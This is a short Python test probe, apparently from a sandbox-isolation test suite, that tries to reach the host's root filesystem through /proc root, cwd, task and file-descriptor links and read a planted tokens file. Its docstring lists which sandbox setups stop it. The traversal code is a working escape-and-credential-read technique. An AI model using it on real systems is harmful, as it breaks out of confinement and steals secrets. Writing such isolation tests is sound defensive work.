"""Looks for a way to the host's root through /proc, ".." and what others have open.

stopped_by: a pivoted root; the init is not dumpable
plain bwrap: succeeds
"""

import glob
import os

from tools import others, planted, reads_secret


def attack():
    roots = ["/proc/self/root/../..", "/proc/self/cwd/../../../..", "/proc/1/root", "/proc/1/cwd/../../../.."]
    roots += [f"/proc/{pid}/{name}" for pid in others() for name in ("root", "cwd/../../../..", "task/../root")]
    roots += glob.glob("/proc/*/root") + glob.glob("/proc/*/task/*/root") + glob.glob("/proc/*/fd/*")
    paths = [f"{root}{planted['folder']}/tokens" for root in roots]
    return float(any(os.path.exists(path) and reads_secret(path) for path in paths))
